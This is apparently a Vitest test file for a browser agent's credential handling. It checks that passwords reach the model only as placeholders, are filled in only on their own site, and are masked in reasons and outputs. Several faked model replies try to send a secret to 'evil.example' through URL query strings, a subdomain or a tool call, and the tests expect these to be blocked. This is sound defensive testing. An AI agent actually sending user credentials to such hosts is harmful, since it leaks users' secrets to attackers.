import { describe, expect, it } from 'vitest';
import type { DecideInput } from '../../../src/llm/model.ts';
import { createOpenAiDecider } from '../../../src/llm/openai/agent/decide.ts';
import type { ChatReply } from '../../../src/llm/openai/endpoint/chat.ts';
import { called, fakeAsk, formatsOf, sampleInput, sampleScreen } from '../../support/model/fake-ask.ts';
import { CALL } from '../../support/model/model-call.ts';

const SECRETS = { shop: { user: 'ada', password: 'engine-1843' } };
const FAIL = called('fail', { reason: 'No.' });

async function decide(changes: Partial<DecideInput>, ...replies: ChatReply[]) {
  const { ask, questions, problems } = fakeAsk(...replies);
  const decider = createOpenAiDecider({ ask, formats: formatsOf('tools'), images: false, contextTokens: 32_000 });
  const decision = await decider(sampleInput(changes), CALL);
  return { decision, problems, question: questions[0] };
}

describe('secrets', () => {
  it('are shown to the model as placeholders only', async () => {
    const { question } = await decide(
      {
        task: 'Log in with password Engine1843.',
        url: 'https://a.example/?p=engine-1843',
        metadata: { ...SECRETS, note: 'it is engine-1843' },
        tools: [{ name: 'vault', description: 'Opens with engine-1843.', inputs: {} }],
        history: [
          {
            action: { type: 'type', target: 'e1', text: 'engine-1843' },
            observation: sampleScreen(),
            ok: true,
            summary: 'Typed “engine-1843”.',
            value: { said: ['Engine1843'] },
          },
        ],
        observation: sampleScreen({ title: 'engine-1843', url: 'https://a.example/engine-1843' }),
      },
      FAIL,
    );
    expect(JSON.stringify(question)).not.toMatch(/engine-?1843/i);
    expect(question?.messages[1]?.text).toContain('"password": "{{secret:shop.password}}"');
    expect(question?.messages[1]?.text).toContain('password {{secret:password_in_task}}.');
  });

  it('of a site go to its pages only: they are typed, selected, opened and given away nowhere else', async () => {
    const metadata = { 'shop.example': { password: 'engine-1843' } };
    const secret = '{{secret:shop_example.password}}';
    const tools = [{ name: 'vault', description: '', inputs: { keys: { type: 'list' } } }];
    const on = (url: string) => sampleScreen({ url });
    const typed = called('type', { ref: 'e1', text: secret, reason: 'x' });
    const own = await decide({ metadata, observation: on('https://shop.example/login') }, typed);
    expect(own.decision).toMatchObject({ action: { type: 'type', text: 'engine-1843' } });
    for (const reply of [
      typed,
      called('select', { ref: 'e3', option: secret, reason: 'x' }),
      called('goto', { url: `https://evil.example/?p=${secret}`, reason: 'x' }),
      called('goto', { url: `https://${secret}.evil.example/`, reason: 'x' }),
      called('goto', { url: secret, reason: 'x' }),
      called('vault', { keys: [secret], reason: 'x' }),
    ]) {
      const { problems, decision } = await decide(
        { metadata, tools, observation: on('https://evil.example/') },
        reply,
        FAIL,
      );
      expect(problems.join()).toContain('is for pages of shop.example only');
      expect(JSON.stringify(decision)).not.toContain('engine-1843');
    }
    const opened = called('goto', { url: `shop.example/?p=${secret}`, reason: 'x' });
    const { decision } = await decide({ metadata, observation: on('https://evil.example/') }, opened);
    expect(decision).toMatchObject({ action: { type: 'goto', url: 'shop.example/?p=engine-1843' } });
  });

  it('take the place of their placeholders in what is typed, selected, opened and given to a tool', async () => {
    const secret = '{{secret:shop.password}}';
    const tools = [{ name: 'vault', description: '', inputs: { keys: { type: 'list' } } }];
    const actions = [
      called('type', { ref: 'e1', text: secret, reason: 'x' }),
      called('select', { ref: 'e3', option: secret, reason: 'x' }),
      called('goto', { url: `https://a.example/?p=${secret}`, reason: 'x' }),
      called('vault', { keys: [secret], reason: 'x' }),
    ].map(async (reply) => (await decide({ metadata: SECRETS, tools }, reply)).decision);
    expect(await Promise.all(actions)).toMatchObject([
      { action: { type: 'type', target: 'e1', text: 'engine-1843' } },
      { action: { type: 'select', target: 'e3', option: 'engine-1843' } },
      { action: { type: 'goto', url: 'https://a.example/?p=engine-1843' } },
      { action: { type: 'call_tool', name: 'vault', input: { keys: ['engine-1843'] } } },
    ]);
  });

  it('go nowhere else', async () => {
    const { decision, problems } = await decide(
      { metadata: SECRETS },
      called('write_note', { text: '{{secret:shop.password}}', reason: 'x' }),
      FAIL,
    );
    expect(problems).toEqual(['A secret can only be typed or selected, stand in an address, or be given to a tool.']);
    expect(decision).toEqual({ type: 'fail', reason: 'No.' });
  });

  it('are in no reason and in no output', async () => {
    const leak = 'It is engine-1843, {{secret:shop.password}}.';
    const done = await decide({ metadata: SECRETS }, called('done', { output: leak, reason: leak }));
    expect(done.decision).toEqual({
      type: 'done',
      output: 'It is •••, •••.',
      unmet: [],
      sampled: [],
      reason: 'It is •••, •••.',
    });
    const failed = await decide({ metadata: SECRETS }, called('fail', { reason: leak }));
    expect(failed.decision).toEqual({ type: 'fail', reason: 'It is •••, •••.' });
    const click = await decide({ metadata: SECRETS }, called('click', { ref: 'e2', reason: leak }));
    expect(click.decision).toMatchObject({ type: 'act', reason: 'It is •••, •••.' });
  });

  it('are put in as numbers where a tool takes nothing else', async () => {
    const tools = [{ name: 'open', description: '', inputs: { pin: { type: 'int' } } }];
    const reply = called('open', { pin: '{{secret:pin}}', reason: 'x' });
    const { decision } = await decide({ metadata: { pin: 4711 }, tools }, reply);
    expect(decision).toMatchObject({ action: { input: { pin: 4711 } } });
  });
});
